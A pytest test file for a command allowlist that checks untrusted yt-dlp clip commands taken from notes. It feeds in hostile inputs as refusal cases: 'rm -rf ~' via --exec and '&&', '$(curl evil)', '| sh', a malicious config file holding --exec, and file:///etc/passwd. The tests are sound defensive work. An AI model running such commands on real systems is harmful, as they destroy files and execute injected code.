"""The clip command allowlist: a note's yt-dlp command is untrusted text, checked before anything runs."""

from __future__ import annotations

import shlex
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yt_dlp
import yt_dlp.options

from clipper.policy import clip_command
from clipper.policy.clip_command import ClipOptions, UnsafeCommand, parse_clip_command, same_video, video_id_of

VIDEO_ID = "u3HBJVjpXuw"
URL = "https://www.youtube.com/watch?v=u3HBJVjpXuw"
# The first highlight's command, as the example note writes it.
EXAMPLE = (
    'yt-dlp --download-sections "*0:38-1:35" "https://www.youtube.com/watch?v=u3HBJVjpXuw"'
    ' --force-keyframes-at-cuts --merge-output-format mp4 -o "u3HBJVjpXuw-0m38s.mp4"'
)
BASE = f'yt-dlp --download-sections "*0:38-1:35" "{URL}" '


def check(command: str) -> ClipOptions:
    return parse_clip_command(command, VIDEO_ID, URL)


def refusal(command: str) -> str:
    with pytest.raises(UnsafeCommand) as caught:
        check(command)
    return str(caught.value)


def test_example_command_is_accepted() -> None:
    assert check(EXAMPLE) == ClipOptions(
        url=URL,
        start=38.0,
        end=95.0,
        output="u3HBJVjpXuw-0m38s.mp4",
        format=None,
        format_sort=(),
        merge_output_format="mp4",
        force_keyframes_at_cuts=True,
    )


@pytest.mark.parametrize(
    ("extra", "expected"),
    [
        ("", ClipOptions(URL, 38.0, 95.0)),
        ("-fbest", ClipOptions(URL, 38.0, 95.0, format="best")),
        ("-fbest -oclip.mkv", ClipOptions(URL, 38.0, 95.0, output="clip.mkv", format="best")),
        ("--output=clip.webm", ClipOptions(URL, 38.0, 95.0, output="clip.webm")),
        (
            "-o Clip.MP4 --merge-output-format mp4",
            ClipOptions(URL, 38.0, 95.0, output="Clip.MP4", merge_output_format="mp4"),
        ),
        ("--format=bv*+ba/b", ClipOptions(URL, 38.0, 95.0, format="bv*+ba/b")),
        (
            "-S res:720,vcodec:h264 --no-playlist",
            ClipOptions(URL, 38.0, 95.0, format_sort=("res:720", "vcodec:h264")),
        ),
        ("--format-sort ' res:720 , , ext '", ClipOptions(URL, 38.0, 95.0, format_sort=("res:720", "ext"))),
        ("--force-keyframes-at-cuts", ClipOptions(URL, 38.0, 95.0, force_keyframes_at_cuts=True)),
        ("--force-keyframes-at-cuts --no-force-keyframes-at-cuts", ClipOptions(URL, 38.0, 95.0)),
        # A unique prefix of an allowed option is read the way yt-dlp reads it.
        (
            "--merge-out mkv --force-key",
            ClipOptions(URL, 38.0, 95.0, merge_output_format="mkv", force_keyframes_at_cuts=True),
        ),
        # optparse reads "-o=x" as the value "=x": a plain (odd) file name, as yt-dlp would write it.
        ("-o=clip.mp4", ClipOptions(URL, 38.0, 95.0, output="=clip.mp4")),
    ],
)
def test_allowed_options(extra: str, expected: ClipOptions) -> None:
    assert check(BASE + extra) == expected


@pytest.mark.parametrize(
    "command",
    [
        f'yt-dlp --download-sections "*0:38-1:35" https://youtu.be/{VIDEO_ID}',
        f'yt-dlp --download-sections "*0:38-1:35" https://youtu.be/{VIDEO_ID}?t=38',
        f'yt-dlp --download-sections "*0:38-1:35" https://www.youtube.com/shorts/{VIDEO_ID}',
        f'yt-dlp --download-sections "*0:38-1:35" https://www.youtube.com/embed/{VIDEO_ID}',
        f'yt-dlp --download-sections "*0:38-1:35" https://m.youtube.com/watch?v={VIDEO_ID}',
        f'yt-dlp --download-sections "*0:38-1:35" "https://www.youtube.com/watch?v={VIDEO_ID}&t=38s"',
        f'yt_dlp --download-sections "*0:38-1:35" https://youtu.be/{VIDEO_ID}',
    ],
)
def test_same_video_in_other_url_forms_is_accepted(command: str) -> None:
    options = check(command)
    assert (options.start, options.end) == (38.0, 95.0)
    assert options.url == command.split()[-1].strip('"')


def test_backslash_newline_continuation_is_accepted() -> None:
    command = f'yt-dlp \\\n  --download-sections "*3:34-4:30" \\\n  "{URL}" \\\n  -o "u3HBJVjpXuw-3m34s.mp4"\n'
    assert check(command) == ClipOptions(URL, 214.0, 270.0, output="u3HBJVjpXuw-3m34s.mp4")


def test_url_other_than_a_youtube_one_must_be_the_notes_url() -> None:
    note_url = "http://127.0.0.1:8000/talk.mp4"
    command = f'yt-dlp --download-sections "*0:01-0:02" {note_url}'
    assert parse_clip_command(command, "talk", note_url).url == note_url
    with pytest.raises(UnsafeCommand) as caught:
        parse_clip_command(command, "talk", None)
    assert str(caught.value) == f"clip command URL '{note_url}' is not the note's video talk"


NOT_ALLOWED = "is not allowed in a clip command"


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ("--exec 'rm -rf ~'", f"--exec {NOT_ALLOWED}"),
        ("--exec-before-download x", f"--exec-before-download {NOT_ALLOWED}"),
        ("--no-exec", f"--no-exec {NOT_ALLOWED}"),
        ("--config-locations /tmp/evil.conf", f"--config-locations {NOT_ALLOWED}"),
        ("--ignore-config", f"--ignore-config {NOT_ALLOWED}"),
        ("--batch-file urls.txt", f"--batch-file {NOT_ALLOWED}"),
        ("-a urls.txt", f"-a {NOT_ALLOWED}"),
        ("--ffmpeg-location /tmp/evil", f"--ffmpeg-location {NOT_ALLOWED}"),
        ("--downloader aria2c", f"--downloader {NOT_ALLOWED}"),
        ("--external-downloader aria2c", f"--external-downloader {NOT_ALLOWED}"),
        ("--downloader-args 'aria2c:--on-download-complete=x'", f"--downloader-args {NOT_ALLOWED}"),
        ("--postprocessor-args 'ffmpeg:-f'", f"--postprocessor-args {NOT_ALLOWED}"),
        ("--ppa 'ffmpeg:-f'", f"--ppa {NOT_ALLOWED}"),
        ("--cookies cookies.txt", f"--cookies {NOT_ALLOWED}"),
        ("--cookies-from-browser firefox", f"--cookies-from-browser {NOT_ALLOWED}"),
        ("--plugin-dirs /tmp/plugins", f"--plugin-dirs {NOT_ALLOWED}"),
        ("--update", f"--update {NOT_ALLOWED}"),
        ("-U", f"-U {NOT_ALLOWED}"),
        ("--update-to nightly", f"--update-to {NOT_ALLOWED}"),
        ("-t mp4", f"-t {NOT_ALLOWED}"),
        ("--preset-alias mp4", f"--preset-alias {NOT_ALLOWED}"),
        ("-P /tmp", f"-P {NOT_ALLOWED}"),
        ("--paths /tmp", f"--paths {NOT_ALLOWED}"),
        ("--load-info-json info.json", f"--load-info-json {NOT_ALLOWED}"),
        ("--netrc", f"--netrc {NOT_ALLOWED}"),
        ("--proxy socks5://127.0.0.1", f"--proxy {NOT_ALLOWED}"),
        ("-x", f"-x {NOT_ALLOWED}"),
        # Abbreviations are resolved like yt-dlp's parser resolves them, and the message says so.
        ("--exec-b x", f"--exec-b (yt-dlp reads it as --exec-before-download) {NOT_ALLOWED}"),
        ("--config-loc /tmp/evil.conf", f"--config-loc (yt-dlp reads it as --config-locations) {NOT_ALLOWED}"),
        ("--ffmpeg-loc /tmp/evil", f"--ffmpeg-loc (yt-dlp reads it as --ffmpeg-location) {NOT_ALLOWED}"),
        ("--cookies-from firefox", f"--cookies-from (yt-dlp reads it as --cookies-from-browser) {NOT_ALLOWED}"),
        # --opt=value forms.
        ("--exec=touch", f"--exec {NOT_ALLOWED}"),
        ("--config-locations=/tmp/evil.conf", f"--config-locations {NOT_ALLOWED}"),
        ("--config-loc=/tmp/evil.conf", f"--config-loc (yt-dlp reads it as --config-locations) {NOT_ALLOWED}"),
        ("--ppa=ffmpeg:-f", f"--ppa {NOT_ALLOWED}"),
        # Bundled short options are walked one letter at a time.
        ("-fbest -U", f"-U {NOT_ALLOWED}"),
        ("-Ufbest", f"-U {NOT_ALLOWED}"),
        ("-xfbest", f"-x {NOT_ALLOWED}"),
        ("-fbest -ta", f"-t {NOT_ALLOWED}"),
        ("-ia", f"-i {NOT_ALLOWED}"),
        # Ambiguous prefixes and unknown options.
        ("--ex x", "--ex is ambiguous (it could mean several yt-dlp options)"),
        ("--co x", "--co is ambiguous (it could mean several yt-dlp options)"),
        ("--frobnicate", "--frobnicate is not a yt-dlp option"),
        ("--frobnicate=1", "--frobnicate is not a yt-dlp option"),
        ("-Z", "-Z is not a yt-dlp option"),
        ("-fbest -Z", "-Z is not a yt-dlp option"),
        # Values and their shapes.
        ("--no-playlist=1", "--no-playlist takes no value"),
        ("-o", "-o needs a value"),
        ("-f", "-f needs a value"),
        ("--format", "--format needs a value"),
        ("-f ''", "-f needs a short plain value"),
        ("-S ''", "-S needs a short plain value"),
        ("-f " + "b" * 201, "-f needs a short plain value"),
        ("--merge-output-format avi", "--merge-output-format 'avi' must be one of mp4, mkv, webm"),
        ("--download-sections '*2:00-3:00'", "only one --download-sections range per clip command"),
    ],
)
def test_refused_options(extra: str, message: str) -> None:
    assert refusal(BASE + extra) == message


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("clips/a.mp4", "-o 'clips/a.mp4' must be a plain file name inside the output folder (no '/')"),
        ("/etc/a.mp4", "-o '/etc/a.mp4' must be a plain file name inside the output folder (no '/')"),
        ("a\\b.mp4", "-o 'a\\\\b.mp4' must be a plain file name inside the output folder (no '\\\\')"),
        ("..mp4", "-o '..mp4' must be a plain file name inside the output folder (no '..')"),
        ("a..b.mp4", "-o 'a..b.mp4' must be a plain file name inside the output folder (no '..')"),
        ("~a.mp4", "-o '~a.mp4' must be a plain file name inside the output folder (no '~')"),
        ("$HOME.mp4", "-o '$HOME.mp4' must be a plain file name inside the output folder (no '$')"),
        ("%(title)s.mp4", "-o '%(title)s.mp4' must be a plain file name inside the output folder (no '%(')"),
        ("C:a.mp4", "-o 'C:a.mp4' must be a plain file name inside the output folder (no ':')"),
        ("file:a.mp4", "-o 'file:a.mp4' must be a plain file name inside the output folder (no ':')"),
        (".hidden.mp4", "-o '.hidden.mp4' must not be a hidden file"),
        ("a.avi", "-o 'a.avi' must end in .mp4, .mkv or .webm"),
        ("a.mp4.part", "-o 'a.mp4.part' must end in .mp4, .mkv or .webm"),
        ("a", "-o 'a' must end in .mp4, .mkv or .webm"),
        ("a.mp4;", "-o 'a.mp4;' must end in .mp4, .mkv or .webm"),
        ("", "-o must be a plain file name"),
        ("a\x01.mp4", "-o must be a plain file name"),
        ("a\n.mp4", "-o must be a plain file name"),
    ],
)
def test_refused_output_names(name: str, message: str) -> None:
    # Quoted, so the name reaches the checker exactly as written here.
    assert refusal(BASE + "-o " + shlex.quote(name)) == message


def test_output_name_must_match_merge_format() -> None:
    assert refusal(BASE + "-o a.mkv --merge-output-format mp4") == "-o 'a.mkv' does not match --merge-output-format mp4"
    assert (
        refusal(BASE + "--merge-output-format webm -o a.mp4") == "-o 'a.mp4' does not match --merge-output-format webm"
    )


SHELL = "is not allowed in a clip command (one yt-dlp command only)"


@pytest.mark.parametrize(
    ("command", "message"),
    [
        (BASE + "&& rm -rf ~", f"shell syntax '&&' {SHELL}"),
        (BASE + "|| true", f"shell syntax '||' {SHELL}"),
        (BASE + "; rm -rf ~", f"shell syntax ';' {SHELL}"),
        (BASE + "| sh", f"shell syntax '|' {SHELL}"),
        (BASE + "&", f"shell syntax '&' {SHELL}"),
        (BASE + "> out.txt", f"shell syntax '>' {SHELL}"),
        (BASE + "< in.txt", f"shell syntax '<' {SHELL}"),
        (BASE + "-o `id`.mp4", f"shell syntax '`id`.mp4' {SHELL}"),
        (BASE + "-o '$(id).mp4'", f"shell syntax '$(id).mp4' {SHELL}"),
        (BASE + '-o "$(id).mp4"', f"shell syntax '$(id).mp4' {SHELL}"),
        ("$(curl evil) " + BASE, f"shell syntax '$(curl' {SHELL}"),
        (BASE + "-o 'a.mp4", "clip command cannot be split: No closing quotation"),
        (BASE + '-o "a.mp4', "clip command cannot be split: No closing quotation"),
        (BASE + "-o a.mp4 \\", "clip command cannot be split: No escaped character"),
    ],
)
def test_shell_syntax_is_refused(command: str, message: str) -> None:
    assert refusal(command) == message


@pytest.mark.parametrize(
    ("command", "message"),
    [
        ("", "clip command is empty"),
        ("  \n ", "clip command is empty"),
        (f"curl {URL}", "clip command must start with yt-dlp, not 'curl'"),
        (f"sudo yt-dlp {URL}", "clip command must start with yt-dlp, not 'sudo'"),
        (f"/usr/bin/yt-dlp {URL}", "clip command must start with yt-dlp, not '/usr/bin/yt-dlp'"),
        (f"python -m yt_dlp {URL}", "clip command must start with yt-dlp, not 'python'"),
        (f"./yt-dlp {URL}", "clip command must start with yt-dlp, not './yt-dlp'"),
        ('yt-dlp --download-sections "*0:38-1:35"', "clip command must name exactly one URL, found 0"),
        (BASE + URL, "clip command must name exactly one URL, found 2"),
        (BASE + "-- --exec", "clip command must name exactly one URL, found 2"),
        (BASE + "-", "clip command must name exactly one URL, found 2"),
        (
            'yt-dlp --download-sections "*0:38-1:35" https://www.youtube.com/watch?v=dQw4w9WgXcQ',
            "clip command URL 'https://www.youtube.com/watch?v=dQw4w9WgXcQ' is not the note's video u3HBJVjpXuw",
        ),
        (
            'yt-dlp --download-sections "*0:38-1:35" https://youtu.be/dQw4w9WgXcQ',
            "clip command URL 'https://youtu.be/dQw4w9WgXcQ' is not the note's video u3HBJVjpXuw",
        ),
        (
            f'yt-dlp --download-sections "*0:38-1:35" https://example.com/watch?v={VIDEO_ID}',
            f"clip command URL 'https://example.com/watch?v={VIDEO_ID}' is not the note's video u3HBJVjpXuw",
        ),
        (
            f'yt-dlp --download-sections "*0:38-1:35" https://www.youtube.com.evil.example/watch?v={VIDEO_ID}',
            f"clip command URL 'https://www.youtube.com.evil.example/watch?v={VIDEO_ID}'"
            " is not the note's video u3HBJVjpXuw",
        ),
        (
            'yt-dlp --download-sections "*0:38-1:35" file:///etc/passwd',
            "clip command URL 'file:///etc/passwd' is not the note's video u3HBJVjpXuw",
        ),
        (f"yt-dlp {URL}", 'clip command has no --download-sections "*START-END"'),
        (f"yt-dlp -o a.mp4 {URL}", 'clip command has no --download-sections "*START-END"'),
    ],
)
def test_refused_commands(command: str, message: str) -> None:
    assert refusal(command) == message


TIMESTAMP_HINT = "is not a timestamp (use M:SS, H:MM:SS or seconds, e.g. 1:20:00.5)"


@pytest.mark.parametrize(
    ("section", "message"),
    [
        ("*1:35-0:38", "--download-sections '*1:35-0:38' ends before it starts"),
        ("*1:35-1:35", "--download-sections '*1:35-1:35' is empty (it ends where it starts)"),
        ("intro", "--download-sections 'intro' must be a time range like \"*0:38-1:35\""),
        ("0:38-1:35", "--download-sections '0:38-1:35' must be a time range like \"*0:38-1:35\""),
        ("Intro|Outro", "--download-sections 'Intro|Outro' must be a time range like \"*0:38-1:35\""),
        ("*1:00-2:00,3:00-4:00", "--download-sections '*1:00-2:00,3:00-4:00' must be one range START-END"),
        ("*1:00", "--download-sections '*1:00' must be one range START-END"),
        ("*1:00-inf", f"--download-sections '*1:00-inf': 'inf' {TIMESTAMP_HINT}"),
        ("*1:00-abc", f"--download-sections '*1:00-abc': 'abc' {TIMESTAMP_HINT}"),
        ("*1:2:3:4-5:00", f"--download-sections '*1:2:3:4-5:00': '1:2:3:4' {TIMESTAMP_HINT}"),
        ("*-1:00-2:00", f"--download-sections '*-1:00-2:00': '' {TIMESTAMP_HINT}"),
    ],
)
def test_refused_sections(section: str, message: str) -> None:
    assert refusal(f"yt-dlp --download-sections '{section}' {URL}") == message


@pytest.mark.parametrize(
    ("section", "start", "end"),
    [
        ("*0:38-1:35", 38.0, 95.0),
        ("*1:20:00.5-1:21:02.25", 4800.5, 4862.25),
        ("*1:02:03-1:02:40", 3723.0, 3760.0),
        ("*38-95", 38.0, 95.0),
        ("* 0:38 - 1:35 ", 38.0, 95.0),
    ],
)
def test_sections(section: str, start: float, end: float) -> None:
    options = check(f"yt-dlp --download-sections '{section}' {URL}")
    assert (options.start, options.end) == (start, end)


def test_checking_never_calls_yt_dlp_parse_options(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """yt-dlp's real parser would read the --config-locations file (which can hold --exec) before we refuse."""
    evil = tmp_path / "evil.conf"
    evil.write_text("--exec 'touch pwned'\n")

    def boom(*args: object, **kwargs: object) -> None:
        raise AssertionError("yt-dlp's full option parser was called")

    monkeypatch.setattr(yt_dlp, "parse_options", boom)
    monkeypatch.setattr(yt_dlp.options, "parseOpts", boom)
    for option in ("--config-locations", "--config-loc", "--config-locations="):
        joined = f"{option}{evil}" if option.endswith("=") else f"{option} {evil}"
        with pytest.raises(UnsafeCommand) as caught:
            check(BASE + joined)
        assert "--config-loc" in str(caught.value)
        assert str(caught.value).endswith("is not allowed in a clip command")
    assert check(EXAMPLE).output == "u3HBJVjpXuw-0m38s.mp4"
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize(
    ("url", "video_id"),
    [
        ("https://www.youtube.com/watch?v=u3HBJVjpXuw", "u3HBJVjpXuw"),
        ("https://www.youtube.com/watch?v=u3HBJVjpXuw&t=38s", "u3HBJVjpXuw"),
        ("https://youtube.com/watch?t=38&v=u3HBJVjpXuw", "u3HBJVjpXuw"),
        ("https://m.youtube.com/watch?v=u3HBJVjpXuw", "u3HBJVjpXuw"),
        ("https://music.youtube.com/watch?v=u3HBJVjpXuw", "u3HBJVjpXuw"),
        ("https://WWW.YOUTUBE.COM/watch?v=u3HBJVjpXuw", "u3HBJVjpXuw"),
        ("https://youtu.be/u3HBJVjpXuw", "u3HBJVjpXuw"),
        ("https://youtu.be/u3HBJVjpXuw?t=38", "u3HBJVjpXuw"),
        ("https://www.youtube.com/shorts/u3HBJVjpXuw", "u3HBJVjpXuw"),
        ("https://www.youtube.com/embed/u3HBJVjpXuw?start=38", "u3HBJVjpXuw"),
        ("https://www.youtube-nocookie.com/embed/u3HBJVjpXuw", "u3HBJVjpXuw"),
        ("https://www.youtube.com/live/u3HBJVjpXuw", "u3HBJVjpXuw"),
        ("https://www.youtube.com/v/u3HBJVjpXuw", "u3HBJVjpXuw"),
        ("https://www.youtube.com/watch", None),
        ("https://www.youtube.com/watch?list=PL123", None),
        ("https://www.youtube.com/@channel", None),
        ("https://youtu.be/", None),
        ("https://example.com/watch?v=u3HBJVjpXuw", None),
        ("https://youtube.com.evil.example/watch?v=u3HBJVjpXuw", None),
        ("http://127.0.0.1:8000/u3HBJVjpXuw.mp4", None),
        ("u3HBJVjpXuw", None),
        ("", None),
    ],
)
def test_video_id_of(url: str, video_id: str | None) -> None:
    assert video_id_of(url) == video_id


@pytest.mark.parametrize(
    ("url", "note_url", "same"),
    [
        ("https://youtu.be/u3HBJVjpXuw", None, True),
        ("https://youtu.be/dQw4w9WgXcQ", URL, False),
        ("http://127.0.0.1/a.mp4", "http://127.0.0.1/a.mp4", True),
        ("http://127.0.0.1/b.mp4", "http://127.0.0.1/a.mp4", False),
        ("http://127.0.0.1/a.mp4", None, False),
    ],
)
def test_same_video(url: str, note_url: str | None, same: bool) -> None:
    assert same_video(url, VIDEO_ID, note_url) is same


@pytest.mark.parametrize(
    "text",
    [
        'yt-dlp --download-sections "*0:38-1:35" "https://www.youtube.com/watch?v=u3HBJVjpXuw" -o "a b.mp4"',
        "yt-dlp -o 'it\"s.mp4' x",
        'yt-dlp -o "it\'s.mp4" x',
        "yt-dlp a\"b c\"d 'e f'g",
        "yt-dlp   --exec   'touch x'\t-- u",
        'yt-dlp ""',
        "yt-dlp ''x''",
        "yt-dlp #comment x",
        "yt-dlp a\\ b",
        'yt-dlp "a\\"b"',
        "yt-dlp \\\n  -f best",
    ],
)
def test_split_command_matches_shlex(text: str) -> None:
    assert clip_command.split_command(text) == shlex.split(text.replace("\\\n", " "), comments=False, posix=True)


@pytest.mark.parametrize("text", ['yt-dlp "unclosed', "yt-dlp 'unclosed", 'yt-dlp "a\\"'])
def test_split_command_refuses_unbalanced_quotes_like_shlex(text: str) -> None:
    with pytest.raises(ValueError):
        clip_command.split_command(text)


def test_exact_spellings_are_yt_dlps() -> None:
    """Each option spelled in full resolves, in yt-dlp's own parser, to the dest, action and arity clipper assumes."""
    parser = yt_dlp.options.create_parser()
    for spelling, expected in clip_command.EXACT_SPELLINGS.items():
        if spelling.startswith("--"):
            assert parser._match_long_opt(spelling) == spelling
            option = parser._long_opt[spelling]
        else:
            option = parser._short_opt[spelling]
        assert (option.dest, option.action, option.takes_value()) == tuple(expected), spelling
        assert option.dest in clip_command.ALLOWED_DESTS


EXACT_ARGS = [  # (argv after yt-dlp, answered without yt-dlp's parser)
    (["--download-sections", "*0:38-1:35", URL, "--force-keyframes-at-cuts", "--merge-output-format", "mp4", "-o",
      "a.mp4"], True),
    (["--download-sections=*0:38-1:35", URL, "--output=a.mkv", "-fbest", "-S", "res,ext", "--no-playlist"], True),
    (["--format=", URL, "--output", "--exec", "-o"], True),
    ([URL, "--force-keyframes-at-cuts=yes"], True),
    ([URL, "--no-force-keyframes-at-cuts", "--yes-playlist", "-f"], True),
    ([URL, "--merge-output-format"], True),
    ([URL, "-", "--format-sort", "x", "--format", "best"], True),
    ([URL, "--format", "best", "--", "--exec"], False),
    ([URL, "--download-sec", "*1-2"], False),
    ([URL, "-x"], False),
    ([URL, "--exec", "rm"], False),
    ([URL, "-So", "x"], True),
    ([URL, "--all-formats"], False),
]  # fmt: skip


@pytest.mark.parametrize(("args", "answered"), EXACT_ARGS)
def test_exact_options_walk_like_yt_dlps_parser(args: list[str], answered: bool) -> None:
    """Where the exact-spelling walk answers, it gives what the walk through yt-dlp's parser gives (or its refusal)."""

    def walk(walker: Callable[[list[str]], Any]) -> Any:
        try:
            return walker(args)
        except UnsafeCommand as error:
            return str(error)

    exact = walk(clip_command._exact_options)
    assert (exact is not None) == answered
    if exact is None:
        return
    general = walk(clip_command.iter_options)
    if isinstance(general, str) or isinstance(exact, str):
        assert exact == general
        return
    resolved = [((o.dest, o.action, o.takes_value()), spelling, value) for o, spelling, value in general[0]]
    assert ([(tuple(o), spelling, value) for o, spelling, value in exact[0]], exact[1]) == (resolved, general[1])
